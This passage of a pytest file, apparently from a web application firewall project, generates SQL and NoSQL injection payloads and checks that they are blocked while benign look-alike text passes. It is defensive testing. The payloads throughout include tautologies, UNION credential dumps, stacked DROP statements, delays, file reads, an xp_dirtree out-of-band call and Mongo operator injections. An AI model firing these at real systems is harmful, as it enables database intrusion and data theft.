"""WAF, SQL injection by grammar: generated variants of each injection class
(literal kinds x operators x quote contexts x comment or terminator x case
and spacing) must be blocked, and benign look-alikes (search queries with
quoted phrases and AND/OR, names with apostrophes, prose with quotes and
numbers) must pass. Everything goes through a real edge (shipped config,
bans off), as a query argument and, for a share, as a JSON body value.

The variants are built here from SQL's grammar, not taken from any corpus:
each class is what an injection in that place has to look like. Each test
samples its product with a fixed seed and reports every value that got the
wrong answer."""
import itertools
import random

import pytest
import requests

from wafkit import WafEdge, no_lua_errors, waf_config

CONF = waf_config()
SAMPLE = 240


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-sqli"), CONF).start()
    yield e
    e.stop()


def statuses(edge, values, json_share=4):
    """{value: status} through the query, and every json_share-th value
    also as a JSON body value (the answer must agree)."""
    out = {}
    with requests.Session() as s:
        for i, v in enumerate(values):
            r = s.get(edge.url + "/probe", params={"v": v})
            out[v] = r.status_code
            if json_share and i % json_share == 0:
                r = s.post(edge.url + "/probe", json={"note": v})
                if r.status_code != out[v]:
                    out[v] = (out[v], "json", r.status_code)
    return out


def sample(items, n=SAMPLE, seed=11):
    items = sorted(set(items))
    if len(items) <= n:
        return items
    return random.Random(seed).sample(items, n)


def cased(text, how):
    if how == "upper":
        return text.upper()
    if how == "mixed":
        return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))
    return text


def spaced(text, how):
    return text.replace(" ", {"space": " ", "comment": "/**/", "tab": "\t",
                              "newline": "\n"}[how])


def assert_blocked(edge, values):
    got = statuses(edge, values)
    missed = {v: s for v, s in got.items() if s != 403}
    assert not missed, f"{len(missed)} of {len(values)} not blocked: {missed}"


def assert_passed(edge, values):
    got = statuses(edge, values)
    blocked = {v: s for v, s in got.items() if s != 404}
    assert not blocked, f"{len(blocked)} of {len(values)} blocked: {blocked}"


# -- injections ---------------------------------------------------------------

# How a value leaves the place the application put it: a number, or a
# literal in single, double quotes; closed by zero or more ")".
BREAKOUTS = ["1", "-1", "7)", "42))", "x'", "x')", "x'))", 'x"', 'x")', "'", '"']

# Comparisons that are always true, in every literal kind SQL has.
COMPARISONS = [
    "1=1", "2>1", "1<>2", "3 != 4", "x'31'=x'31'", "0x31=0x31", "b'1'=b'1'",
    "n'a'=n'a'", "'a'='a'", '"b"="b"', "1 is not null", "null is null",
    "1 is true", "0 is false", "2 is not 3", "'a' sounds like 'a'",
    "'a' not like 'b'", "1 in (1)", "1 between 0 and 2", "-1=-1", "~0=~0",
    "-(2)=-(2)", "(5)=(5)", "@a=@a", "1+1=2", "pi()=pi()",
]

# A literal that decides the boolean alone (no comparison).
LONE = ["1", "true", "~0", "-1", "-(1)", "+1", "not 0", "@a", "0x1", "x'31'"]

LOGIC = ["or", "and", "||", "&&", "xor"]

# What ends the injection: a comment, a statement end, nothing.
ENDS = ["--", "-- -", "#", "/*", ";", ""]


def tautologies():
    for b, cmp, op, end in itertools.product(BREAKOUTS, COMPARISONS, LOGIC, ENDS):
        yield f"{b} {op} {cmp}{end}"


def lone_literals():
    for b, lit, op, end in itertools.product(BREAKOUTS, LONE, LOGIC,
                                             ["--", "#", "-- x", "/*", ";"]):
        yield f"{b} {op} {lit}{end}"


@pytest.mark.parametrize("case", ["lower", "upper", "mixed"])
@pytest.mark.parametrize("space", ["space", "comment", "tab", "newline"])
def test_tautologies_in_every_literal_kind(edge, case, space):
    seed = len(case) * 7 + len(space)
    values = [spaced(cased(v, case), space) for v in sample(tautologies(), seed=seed)]
    assert_blocked(edge, values)


def test_lone_literals_after_a_breakout(edge):
    assert_blocked(edge, sample(lone_literals()))


def test_tautology_left_open_for_the_application_quote(edge):
    """x' OR 'a'='a : the application's closing quote ends the last
    literal; so do comparisons whose right side is an open literal."""
    values = []
    for q, op, lit in itertools.product(["'", '"'], LOGIC, ["1", "a", "0", "x"]):
        values.append(f"x{q} {op} {q}{lit}{q}={q}{lit}")
        values.append(f"x{q} {op} 1={q}1")
    for q, n in itertools.product(["'", '"'], ["1", "9", "0"]):
        values.append(f"x{q} or {q}{n}")
        values.append(f"a{q}|{q}{n}")
        values.append(f"a{q}*{n}-{q}{n}")
        values.append(f"a{q} = {q}a{q} = {q}{n}")
    assert_blocked(edge, values)


def test_logic_word_glued_between_quotes(edge):
    """x'OR'a='a: quotes stand in for the spaces around the operator (even
    when the quotes after it do not pair up as the attacker meant)."""
    values = [f"{p}{q}{op}{q}{tail}".replace("'", q)
              for p, q, op, tail in itertools.product(
                  ["1", "x", "", "abc"], ["'", '"'], ["OR", "and", "Xor"],
                  ["a='a", "1>0", "z' like 'z"])]
    assert_blocked(edge, values)


def test_numeric_context_breakouts(edge):
    """A number, closers, then a clause the query did not have: WHERE or
    a logic operator with a comparison, an alias, a boolean product."""
    values = []
    nums = ["1", "-5147", "37"]
    for n, close, end in itertools.product(nums, ["", ")", "))", ")))"], ["", "--", "#"]):
        a, b = 8000 + len(close), 1200 + len(end)
        values += [
            f"{n}{close} where {a}={a}{end}",
            f"{n}{close} or {a}={b}{end}",
            f"{n}{close} and ({a}={a})*{b}{end}",
            f"{n}{close} or elt({a}={b},{b}){end}",
        ]
        if close:
            # an alias names the derived table the ")" closed
            values.append(f"{n}{close} as t{a} where {a}={a} and {b}={b}{end}")
    values += [f"{n} order by {k}" for n, k in itertools.product(nums, [1, 9, 23])]
    values += ["(1)*(x) and 8=3", "~9-(2) or 1 = ~1", "-1 or -(1)",
               "((1))*((y)) and 8=3", "1 div (select 2)", "x' or binary 'a'='a",
               "1+pi() and (3=pi())--", "elt(5=5,1)", "1,iif(3=3,1,1/0)",
               "(12=12)*1"]
    assert_blocked(edge, sample(values, 400))


def test_constant_comparison_after_a_clause_no_breakout_takes(edge):
    """WHERE as the value's first word, or after words no breakout prefix
    takes ("as t"), or a logic word between names: a comparison that no
    row decides (two numbers, a name with itself) is an injection's
    probe."""
    values = []
    for lead, cmp, tail, end in itertools.product(
            ["", " ", "1 as t ", " AS probe "],
            ["1=1", "2>1", "7<>7", "3 = 3"],
            ["", " and 1=0", " AND 8=8"], ["", "--", "#"]):
        values.append(f"{lead}where {cmp}{tail}{end}")
    for op, name, end in itertools.product(["or", "and", "||", "&&"],
                                           ["x", "name", "id"], ["", "-- ", "#"]):
        values.append(f" {op} {name}={name}{end}")
        values.append(f"{op} {name} = {name}{end}")
    assert_blocked(edge, sample(values, 300))


def test_logic_word_then_arithmetic_on_literals_left_open(edge):
    """' or ''-' : after the logic word, literals and an operator up to a
    literal the application's quote closes (every quote pairs in SQL)."""
    values = [f"{p}{q} {op} {q}{a}{q}{o}{q}{b}"
              for p, q, op, a, o, b in itertools.product(
                  ["", "x"], ["'", '"'], ["or", "and", "xor"], ["", "a"],
                  ["-", "&", "*", "^", "|"], ["", "1"])]
    assert_blocked(edge, sample(values, 200))


def test_closed_literal_compared_then_commented_out(edge):
    """'=0-- : the literal the value closes, compared with a literal
    ("name = '' = 0" holds for every row with a name), the rest of the
    query commented out."""
    values = [f"{p}{q}{sp}{op}{sp}{lit}{sp}{end}"
              for p, q, sp, op, lit, end in itertools.product(
                  ["", "admin", "x"], ["'", '"'], ["", " "], ["=", "<>", ">"],
                  ["0", "1", "''"], ["--", "--+", "-- -", "#"])]
    assert_blocked(edge, sample(values, 200))


def test_a_condition_the_value_opens_and_a_bare_comment_ends(edge):
    """A logic word from the first byte, a comparison (of any two names)
    or a true literal, then a comment with nothing in it: the value goes
    on the application's condition and cuts off the rest."""
    values = [f"{lead}{op} {cond}{end}"
              for lead, op, cond, end in itertools.product(
                  ["", " ", "  "], ["or", "OR", "and", "||"],
                  ["x=y", "a = b", "id<>uid", "true", "1", "42", "(x=y)"],
                  ["#", "--", "-- ", "-- -", "--+"])]
    assert_blocked(edge, sample(values, 300))


def test_like_with_only_wildcards(edge):
    """LIKE first (after the literal the value closes, or as the value's
    start), its pattern only % and _: every row matches."""
    values = [f"{p}{q}{sp}{like} {pq}{pat}{pq}{end}"
              for p, q, sp, like, pq, pat, end in itertools.product(
                  ["", "admin"], ["'", '"', ""], ["", " "], ["like", "LIKE"],
                  ["'", '"'], ["%", "%%", "_%", "__"], ["", "--", "#", ")"])
              if q or not p]
    assert_blocked(edge, sample(values, 300))


def test_case_comparing_a_literal_with_itself(edge):
    """The simple CASE of a number with itself (sqlmap's inline and
    boolean probes), wherever it sits."""
    values = [f"{pre}(CASE {n} WHEN {n} THEN {a} ELSE {b} END){post}"
              for pre, n, a, b, post in itertools.product(
                  ["", "1 AND ", "SELECT 'qa'||", "x'||"],
                  ["5118", "8760", "1"], ["1", "0x31"], ["0", "2"],
                  ["", "||'qz' FROM RDB$DATABASE", "--"])]
    assert_blocked(edge, sample(values, 200))


def test_closed_literal_compared_with_the_empty_one_left_open(edge):
    """'=' : the literal the value closes compared with the empty literal
    the application's own quote closes ("name = '' = ''")."""
    values = [f"{p}{q}{sp}{op}{sp}{q}"
              for p, q, sp, op in itertools.product(
                  ["", "admin", "x1"], ["'", '"'], ["", " "],
                  ["=", "<>", "!=", ">=", "<", "LIKE", "like", "RLIKE", "regexp"])]
    assert_blocked(edge, sample(values, 200))


def test_numeric_context_booleans(edge):
    """A number then a logic word and a boolean literal, or OR and the same
    number again: a numeric context's true/false probe ("1 and false",
    "1 or 1"); two different numbers are text ("1 or 2")."""
    values = [f"{n} {op} {b}{end}"
              for n, op, b, end in itertools.product(
                  ["1", "7", "42"], ["or", "OR"], ["true", "TRUE"], ["", "--", "#"])]
    values += [f"{n} {op} {b}" for n, op, b in itertools.product(
        ["1", "9"], ["and", "AND"], ["false", "FALSE"])]
    values += [f"{n} or {n}" for n in ["1", "2", "1.5", "300"]]
    values += ["1 xor true", "5 XOR false"]
    assert_blocked(edge, values)
    assert_passed(edge, ["1 or 2", "1950 or 1960", "1 and 2", "1 or 1 apples",
                         "Option 1 or 1b", "1 or true love"])


def test_conditions_and_likes_text_writes_pass(edge):
    """A dash or a hash that says something is text; a LIKE that text
    goes on after, a CASE with one branch, a value that only starts with
    "or"."""
    assert_passed(edge, [
        "or 1 -- maybe 2", "Or 3 -- if you prefer", "or true -- that works",
        "OR x=y -- see the docs", "or a=b /* note */", "or 0--", "or true",
        " OR x=y", "this or that=fine #tbt", "Pick red or blue=ok -- your call",
        "like '%' signs in a URL", "Search like '%' in SQL",
        "In case 5 when 5 then go", "just in case 2 when 2 then 3",
        "it's='", "rock'n'roll='", "O'Brien = '", "'=' is a quote",
    ])


def test_comparisons_text_writes_pass(edge):
    """Text compares one thing with another, and arithmetic is not a
    constant probe; quoted words with operators between them are text."""
    assert_passed(edge, [
        "where x = 2", "where n = 5 and k = 3", "the set where a = b",
        "this or that = it", "x or y=z", "cats or dogs = pets",
        "Where the river meets the sea", "I know 2+2=4 and 3+3=6",
        "where price = cost", "pick A or B = same price",
        "it's 'a' or 'b'-'c", "'x' or 'y'", "rock 'n' roll or 'blues'",
        "it's 5'=0 -- really", "rock'n'roll = 0 -- fine", "5'=0",
        # a name compared to a literal after a sentence's first word: rows
        # decide it ("1 or x=1" is the 1's)
        "p && q is true only when both are true", "a or b=1", "tea and milk = 2 cups",
        "x || y is null here",
    ])


def test_conditions_of_code_statements_pass(edge):
    """A C-like statement's condition holds the logic operator in its
    group: code in a note, not a breakout before it."""
    assert_passed(edge, [
        "if (x < 10 && y > 5) { return x + y; } else { return 0; }",
        "if (a && b > 5) run();", "while (a == b || c != d) {}",
        "for (i = 0; i < n && ok; i++) { sum += i; }",
        "} elseif (count > 3 || retry == 0) {", "switch (x == 1 && y) {",
    ])


def test_groups_holding_the_boolean_before_a_comment_blocked(edge):
    """SQL's own groups around the boolean are still a breakout's."""
    assert_blocked(edge, [" ( 1 OR 1 )  --", "( @a OR 1 ) --", " ( COS ( 1 OR 1) )  --",
                          "(1 or 2=2)#"])


def test_backslash_escaped_quotes(edge):
    """\\' is a breakout where the application escapes quotes with a
    backslash of its own (its \\\\' ends the literal)."""
    values = []
    for q, op, cmp, end in itertools.product(["'", '"'], ["or", "and", "||"],
                                             ["1=1", "2>1", "x'31'=x'31'"],
                                             ["--", "#", ""]):
        values.append(f"\\{q} {op} {cmp}{end}")
        values.append(f"abc\\{q} {op} {cmp}{end}")
    assert_blocked(edge, values)


TYPOGRAPHIC = [("\u2019", "\u2018"), ("\u201d", "\u201c"), ("\u2032", "\u2032")]


def test_typographic_quotes_are_quotes(edge):
    values = []
    for (close, open_), op, n in itertools.product(TYPOGRAPHIC, ["or", "OR", "||"],
                                                   ["1", "7"]):
        values.append(f"{close} {op} {open_}{n}{close}={close}{n}")
        values.append(f"x{close} {op} {n}={n}--")
        values.append(f"x{close}; drop table t{n}--")
    assert_blocked(edge, values)


def test_comment_and_statement_after_a_breakout(edge):
    values = []
    for b, end in itertools.product(["admin'", "7'", "x\"", "1')"],
                                    ["--", "#", "/*", "-- -", ";", ";--"]):
        values.append(b + end)
    for b, stmt in itertools.product(["1", "1'", "x\")", "'"],
                                     ["drop table t", "select 1", "shutdown",
                                      "insert into t values (1)",
                                      "waitfor delay '0:0:5'", "if 1=1 shutdown",
                                      "while 2>1 waitfor delay '0:0:1'",
                                      "begin shutdown end", "desc users", "show tables",
                                      "set @a=1"]):
        values.append(f"{b}; {stmt}--")
    for b in ["x'", "1\"", "1"]:
        values.append(f"{b} order by 3--")
        values.append(f"{b} group by 2#" if b != "1" else "1 order by 2#")
        values.append(f"{b} into outfile '/tmp/x'")
        values.append(f"{b} union all select 1,2--")
        reopen = b[-1] if b[-1] in "'\"" else ""
        values.append(f"{b}+(select 1 where 2=2)+{reopen}")
    assert_blocked(edge, values)


def test_statement_after_a_dialect_clause(edge):
    # a closed literal, one to three words the tokenizer does not know (a
    # dialect's clause: table hints, collations, consistency options),
    # ";" and a whole statement
    values = [f"{b} {clause}; {stmt}--"
              for b, clause, stmt in itertools.product(
                  ["q'", "7'", 'n"'], ["WITH NOLOCK", "COLLATE nocase", "USING TIMEOUT 5s"],
                  ["SELECT * FROM members", "SELECT login, secret FROM staff",
                   "DROP TABLE invoices", "DELETE FROM sessions",
                   "UPDATE staff SET role = 'root'", "EXEC xp_dirtree '//h/s'"])]
    assert_blocked(edge, values)
    # text: a sentence after an apostrophe, ";", and words after "select"
    assert_passed(edge, ["it's late, sorry; select all from the list tomorrow",
                         "Ann's pick; select the best from the menu",
                         "we're out; select another date from the calendar",
                         "O'Neil said so; update the docs from the wiki"])


def test_union_right_after_a_number(edge):
    values = [f"{n}{w}union{s}select 2" for n, w, s in
              itertools.product(["1", "-1", "1e0", "9.5", "0x1"], ["", "d", "f", " "],
                                [" ", "/**/", "(", " all "])]
    assert_blocked(edge, values)


def test_casts_and_json_operators(edge):
    """PostgreSQL casts at the end of a value or under an operator, and
    literals compared to literals compared again (JSON path checks)."""
    values = []
    for lit, typ, after in itertools.product(["'1'", "x", "'[1,2]'", "(1)"],
                                             ["int", "text", "jsonb", "bool"],
                                             ["", " - 1", "->0", " = 1"]):
        values.append(f"{lit}::{typ}{after}")
    for a, op, b in itertools.product(["'{\"a\":1}'", "'x'"], ["<", ">", "="], ["7", "'y'"]):
        values.append(f"{a} {op} '$.a' = {b}")
    assert_blocked(edge, values)


def test_nosql_operators_in_values(edge):
    """An operator object in place of a scalar is the injection; inside a
    filter document whose keys are fields, one whose operand decides
    nothing (or that runs code) still is."""
    values = []
    for op, key, val in itertools.product(["gt", "ne", "regex", "where", "nin", "exists"],
                                          ['"${}"', "${}", "'${}'"],
                                          ['""', "null", "'.*'", "1"]):
        k = key.format(op)
        values.append(f"{{{k}: {val}}}")
    # inside a filter document: operands that decide nothing
    nothing = {"gt": ['""', "null", "-1"], "ne": ['""', "null", "1", "[]"],
               "nin": ["[]", "null"], "exists": ["true", "1"], "regex": ["'.*'", '"^.*$"'],
               "where": ["'1 == 1'", "'sleep(100)'"]}
    for op, vals in nothing.items():
        for key, val in itertools.product(['"${}"', "${}", "'${}'"], vals):
            values.append(f'{{"user": {{{key.format(op)}: {val}}}}}')
    values.append("$where: '1 == 1'")
    values.append("$where: 'sleep(100)'")
    values += ['{"user": "admin", "password": {"$ne": null}}', "x[$ne]=1",
               '{"username": {"$regex": "^.*$"}, "password": {"$ne": ""}}',
               '{"email": {"$exists": true}, "pwd": {"$gt": ""}}', '{"user": {"$nin": []}}',
               '{"n": {"$function": {"body": "function() { return true }", "args": []}}}']
    assert_blocked(edge, values)


def test_nosql_filter_documents_pass(edge):
    """A filter document as a parameter (Parse's "where", a BI tool's
    Mongo filter): its keys are fields and its operators narrow the
    result with real operands."""
    assert_passed(edge, [
        '{"created_at": {"$gte": "2025-03-01T00:00:00Z", "$lt": "2025-04-01T00:00:00Z"}}',
        '{"sku": {"$regex": "^TSH-", "$options": "i"}, "inventory.available": {"$gt": 0}}',
        '{"status": "active", "tags": {"$in": ["vip", "wholesale"]}, "total": {"$gte": 100}}',
        '{"playerName":"Sean","score":{"$gte":1000}}', '{"status": {"$ne": "cancelled"}}'])


def test_js_return_of_a_comparison_the_application_closes(edge):
    """$where runs its string as JavaScript: a breakout, ";", and a return
    of a comparison whose last literal the application's own quote ends
    ("'; return '' == '" is "return '' == ''" in the query)."""
    values = []
    for q, left, op in itertools.product(["'", '"'], ["{q}{q}", "this.a", "1", "this.pw.length"],
                                         ["==", "!=", ">", "==="]):
        values.append(f"x{q}; return {left.format(q=q)} {op} {q}")
        values.append(f"{q}; return {left.format(q=q)} {op} {q}a")
    assert_blocked(edge, values)


def test_a_return_that_is_no_javascript_passes(edge):
    """The same words where JavaScript reads no expression after return
    (two names in a row), or no string is left open for the application."""
    assert_passed(edge, ["Bob'; return it if x == 'y", "it's ok; return it == 'x",
                         "Ann'; return to sender == the rule"])


# -- benign look-alikes ----------------------------------------------------------

PHRASES = ["red dress", "winter coat", "garden hose", "blue jeans",
           "paper lantern", "birthday card", "oak table", "rain boots"]


def search_queries():
    for a, b, op, q in itertools.product(PHRASES, PHRASES, ["AND", "OR", "NOT", "and", "or"],
                                         ['"', "'"]):
        if a == b:
            continue
        yield f"{q}{a}{q} {op} {q}{b}{q}"
        yield f"{q}{a.upper()}{q} {op} {q}{b.upper()}{q}"
        yield f"{a.upper()} {op} {q}{b.upper()}{q}"
        yield f"title:{q}{a}{q} {op} tag:{q}{b}{q}"


def test_boolean_search_queries_pass(edge):
    """Quoted phrases joined by AND/OR/NOT decide nothing in SQL: no
    comparison, no breakout followed by SQL."""
    assert_passed(edge, sample(search_queries(), 400))


NAMES = ["O'Brien", "D'Angelo", "O'Neil", "N'Dour", "L'Oréal", "Dell'Acqua",
         "Mc'Kay", "O\u2019Hara", "D\u2019Souza"]


def test_names_with_apostrophes_pass(edge):
    values = []
    for a, b in itertools.permutations(NAMES, 2):
        values += [f"{a} and {b}", f"{a} or {b}", f"{a}, {b}", f"{a.upper()} & {b.upper()}",
                   f"{a} vs. {b}"]
    assert_passed(edge, sample(values, 300))


PROSE = [
    "It's 5 o'clock and the shop's open",
    "Rock 'n' roll or jazz?",
    "He said \"yes\" and left",
    "We're out of 2' and 4' boards",
    "A 7\" screen or a 10\" one",
    "\"Hello\" from Paris",
    "The book \"Into the Woods\" and its sequel",
    "\"Where's the cat?\" she asked",
    "\"Is\" it or isn't it",
    "size 10 or 12, whichever fits",
    "'Like' the page and win",
    "Tom's #1 fan",
    "Bring 3 or 4 chairs (or more) and a table",
    "either 'yes' or 'no' will do",
    "\u201cQuoted\u201d and \u2018single\u2019 marks",
    "Don\u2019t worry, it\u2019s fine or so they say",
    "I'd rate it 9/10 - or 8 if I'm honest",
    "the \"AND\" and \"OR\" buttons",
    "SAVE 20% ON \"WINTER\" OR \"SPRING\" ITEMS",
    "Mom's \"secret\" recipe; use 2 cups",
    "Call me at 5'ish; or later",
    "Ticket #4521 is closed or was it #4522?",
    "x' marks the spot",
    "Where's Waldo and friends",
    "Select your size from the list",
    "Union station or the airport",
    "Drop off the keys at the desk",
    "Order by phone or online",
    "1990 or 2000",
    "70% cotton and 30% linen",
    "2 or 3",
    "the 1980s or 1990s",
    "pages 10 and 11",
    "Is 5 or 6 better?",
    "OK; show me the way",
    "Lunch; use the back door",
    "done; set the table",
    "Step 1; if in doubt, ask",
    "Meeting at 3; begin with coffee",
    "Select all",
    "select all files",
    "Select top picks",
    "\"red\"OR\"blue\"",
    "either 'yes'or'no'",
    "\"yes\" and \"no\" or \"maybe\"",
    "the 'AND' and 'OR' keys",
    "std::string or std::vector",
    "meet at 10::30",
    "Foo::Bar and Baz::Qux",
    "Place your order by 5",
    "Sort the group by 2 and 3",
    "the binary or text format",
    # TeX's and GNU's quoting: a backtick opens, an apostrophe closes
    "Search for `DEBUG' from files",
    "Type `make' from the top directory",
    "Press `q' from any screen",
]


def test_prose_with_quotes_passes(edge):
    values = []
    for p in PROSE:
        values += [p, p.upper(), p.lower()]
    assert_passed(edge, values)


# A number, a logic operator and a predicate on a column: "1 OR id IS NOT
# NULL" is true on every row as "1 OR 1=1" is, with no quote, comment or
# "=" in it; prose that says a field "is null" has no number before its OR.
def test_null_predicates_after_a_number(edge):
    values = [f"{n} {op} {neg}{col} is {nn}{lit}{end}"
              for n, op, neg, col, nn, lit, end in itertools.product(
                  ["1", "-1", "0"], ["or", "OR", "And"], ["", "not "], ["id", "u.email"],
                  ["", "not "], ["null", "true"], ["", " limit 1"])]
    assert_blocked(edge, values)


# ... or OR with a hex or binary literal: text writes "1 or 2", never "1 or
# 0x1"
def test_hex_literals_after_or(edge):
    assert_blocked(edge, [f"{n} {op} {lit}" for n, op, lit in itertools.product(
        ["1", "-1", "0"], ["or", "OR"], ["0x1", "0x1f", "0b1"])])
    assert_passed(edge, ["1 or 2", "1950 or 1960", "color 0x1 or 0x2"])


def test_null_in_prose_passes(edge):
    assert_passed(edge, ["check that the field is not null", "it is null or empty",
                         "the value is null or the key is missing",
                         "Either the row is null or it is empty",
                         "returns true if the value is null or undefined",
                         "name is null and age is null", "2 or 3 items; none is null"])


# Literals joined by symbolic operators after the one the value closes,
# the last closed too and a comment hiding the application's quote: the
# same breakout as "x'+'y" left open ("ad'+'min'--" is 'ad'+'min' with the
# rest of the query commented out)
def test_concatenated_literals_then_a_comment(edge):
    assert_blocked(edge, [f"{a}'{op}'{b}'{c}" for a, op, b, c in itertools.product(
        ["ad", "x", "1"], ["+", "||", "-"], ["min", "y"], ["--", "#", "-- -", "/*"])])
    assert_passed(edge, ["rock'n'roll --", "it's 5 o'clock -- late", "O'Brien'+'s --"])


# After the literal the value closes, more of the statement the application
# writes it into: an UPDATE's assignments ("x', is_admin=1, email='e", the
# last value left open for the application's quote, or the rest commented
# out) or an INSERT's values, the list closed and the rest commented out
def test_set_and_values_lists_after_a_breakout(edge):
    assert_blocked(edge, ["x', is_admin=1, email='e@evil.test", "x', role='admin'--",
                          "bob', credits=999#", "eve', 'eve@evil.test', 'admin')-- -",
                          "bob', 1, 1)#", "x', 'y', 0)/*"])
    assert_passed(edge, ["Smith', 'Jones'", "it', a=1, b=2", "O'Neil, Smith, 'Jones')",
                         "tom', 'x')"])
    # after a phrase (a bio's, a title's text): one assignment whole, then
    # the last left open; a sentence with "=" and quotes passes
    assert_blocked(edge, ["my profile', verified=1, title='x", "Big sale', price=0, sku='z"])
    assert_passed(edge, ["I said 'ok', x=1, y='2' in the doc", "the note', x=1",
                         "two words', a='b' c"])


def test_another_row_of_an_insert_after_the_closed_one(edge):
    """x'), ('a', 'b', now())-- : the row the value sits in closed, a row
    of the attacker's own added to the INSERT's VALUES, the rest commented
    out; a parenthesis and a quote in prose add no row."""
    rows = ["'spam','admin',now()", "1, 2", "'eve', 'e@x.test', 1, current_timestamp()"]
    values = [f"{first}{q}){sp},{sp}({row.replace(chr(39), q)}){end}"
              for first, q, sp, row, end in itertools.product(
                  ["hi", "x1"], ["'", '"'], ["", " "], rows, ["-- ", "#", "/*"])]
    assert_blocked(edge, values)
    assert_passed(edge, ["it's (a), ('b') and more", "see (fig. 2'), ('table 3') -- ok",
                         "Rock 'n' roll (the 50s'), ('60s') hits"])


def test_localization_file_lines_pass_and_literal_probes_do_not(edge):
    """'"key.name" = "its text";' is a line of an iOS .strings file (two
    unlike literals of several letters); a probe compares a literal with
    itself or with a short one."""
    assert_passed(edge, ['"settings.title" = "Einstellungen";',
                         '"profile.saved" = "Kaydedildi: <b>%s</b>";',
                         "'cart.empty' = 'Votre panier est vide';"])
    assert_blocked(edge, ["'1'='1'", "'admin'='admin';", "'a'='b'", '"1"="2";'])


def test_a_comment_followed_by_a_call_is_code_going_on(edge):
    """A sheet's '="#"&TEXT(ROW()-1,"000")': the quote and "#" look like a
    literal closed and the rest commented out, but a call after the "#"
    is code going on; a one-word comment still ends an injection."""
    assert_passed(edge, ['=IF(A2<>"","#"&TEXT(ROW()-1,"000"),"")', '"#"&TEXT(1,"000")',
                         "=\"#\"&LEFT(B2,3)"])
    assert_blocked(edge, ['admin"#', "admin'#", "x'-- -", "bob'#a", "1')#"])


def test_a_select_quoted_after_a_label_passes(edge):
    """'Query I used: SELECT region, COUNT(*) ...': words and a colon
    before the statement are no SQL an application's statement could go
    on with; a SELECT that is the value, or follows a number, a quote, a
    UNION or a ";", still counts."""
    assert_passed(edge, ["Query I used: SELECT region, COUNT(*) AS deals FROM opportunities "
                         "WHERE stage = 'Closed Won' GROUP BY region ORDER BY deals DESC",
                         "Here is the query: select id, name, count(*) from users group by 1",
                         "The report runs this: SELECT sum(total), avg(total) FROM orders"])
    assert_blocked(edge, ["select * from users", "1 union select username, password from users",
                          "' union select 1,2-- ", "x: select @@version",
                          "note: SELECT load_file('/etc/passwd')",
                          "Ran this: SELECT count(*) FROM orders; DROP TABLE orders"])


def test_a_phrase_closed_before_order_by_needs_a_comment(edge):
    """MySQL's error pasted ("...to use near 'ORDER BY created_at DESC
    LIMIT 10' at line 3"): the phrase before the quote is no literal an
    attacker closes, and the literal left open after the clause cannot
    follow it; a one-word literal, or the rest commented out, still
    breaks out."""
    assert_passed(edge, ["ERROR 1064 (42000): You have an error in your SQL syntax; check the "
                         "manual for the right syntax to use near 'ORDER BY created_at DESC "
                         "LIMIT 10' at line 3",
                         "You have an error in your SQL syntax near 'GROUP BY region' at line 1"])
    assert_blocked(edge, ["1' ORDER BY 1--", "admin' order by 5#", "john smith' ORDER BY 3-- -",
                          "') ORDER BY 1#", "x\" GROUP BY 2#"])


def test_a_sentence_that_starts_with_select_passes(edge):
    """'SELECT COUNT(*) on the audit_log table takes 12 seconds': after a
    select list's first item, two words that are no SQL ("on the", "*
    is") are a sentence about SQL, which no database parses, in a subquery
    neither; a select list that goes on as SQL still counts."""
    assert_passed(edge, ["SELECT COUNT(*) on the audit_log table takes 12 seconds; we have "
                         "about 80M rows. Is there a cheaper way to show the total?",
                         "SELECT * is slow on big tables, list the columns",
                         "select max(id) takes forever on this table"])
    assert_blocked(edge, ["select * from users", "select count(*) from users",
                          "select version()", "select user()", "select sleep(5)",
                          "select name from users where id = 1", "(select * from users)",
                          "select concat(user,0x3a,password) from mysql.user",
                          "select password from users", "select 1 union select 2"])


def test_preserved_banners_are_no_versioned_comment(edge):
    """'/*!' opens a comment MySQL runs; a script's or stylesheet's
    preserved banner opens a doc block's gutter ("/*!\\n * ...") or names
    a library and its version ("/*! jQuery v3.7.1 | ..."): MySQL would run
    neither. SQL inside one still counts."""
    assert_passed(edge, ["/*!\n * Returns true when `a` and `b` are equal in constant time.\n */",
                         "/*! jQuery v3.7.1 | (c) OpenJS Foundation | jquery.org/license */",
                         "/*! normalize.css v8.0.1 | MIT License | github.com/necolas */"])
    assert_blocked(edge, ["1 /*!union*/ select 1", "1 /*!50000union*/ /*!50000select*/ 1,2",
                          "x'/*!or*/1=1-- ", "/*!select*/ user()"])


def test_nosql_breakouts_and_pipelines(edge):
    """An unquoted operator key after a closed quote broke out of the
    query's JavaScript; a pipeline starts with an operator; an empty
    object among $or's alternatives matches every document. A filter
    document's own $or of real conditions passes."""
    assert_blocked(edge, ["', $or: [ {}, { 'a':'a", "' } ], $comment:'x'",
                          '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id",'
                          '"as":"u"}},{"$project":{"u.password":1}}]',
                          '{"$or": [{}, {"a": 1}]}', '{"q": {"$or": [{"a": 1}, {}]}}'])
    assert_passed(edge, ['{"a": "x", "$or": [{"b": 1}, {"c": 2}]}'])


def test_formulas_naming_fields_in_braces_pass(edge):
    """An Airtable-style formula names its fields in braces ({Total},
    {Days since order}): SQL has braces only for ODBC's escapes ({d '...'},
    {fn now()}) and MySQL's {x expr}. A call in those still counts."""
    assert_passed(edge, ['IF(AND({Status}="Paid",{Total}>0),"ok","check")',
                         'IF({Country} = "DE", {Net} * 1.19, {Net})',
                         'IF({Days since order}<50,"ok","-")', 'IF({Total}>=6,"high","low")'])
    assert_blocked(edge, ["if(1=1,sleep(5),0)", "if({x 1}=1,sleep(5),0)",
                          "IF({fn now()} > 0, sleep(3), 0)", "concat(user(),0x3a,version())"])


def test_an_optimizer_hint_names_one(edge):
    """'/*+' opens an optimizer hint ("/*+ INDEX(t) */"); a robots.txt
    glob's "/*+*" names none."""
    assert_passed(edge, ["Disallow: /collections/*+*", "Allow: /search/*+*?q="])
    assert_blocked(edge, ["1 union/*+*/select 1", "x'/*+ hint */ or 1=1--"])


def test_a_whole_statement_ended_by_its_semicolon_passes(edge):
    """A SELECT (or WITH) statement that is the whole value and ends with
    its own ";" fits no application's statement: a subquery's parentheses
    and every expression reject the ";". The same without the ";", with
    a comment, a second statement, or what a clause runs, still counts."""
    assert_passed(edge, [
        "SELECT DATE(created_at) AS day, SUM(total_price) AS revenue FROM orders "
        "WHERE country_code IN ('DE','AT') GROUP BY 1 ORDER BY 2 DESC LIMIT 20;",
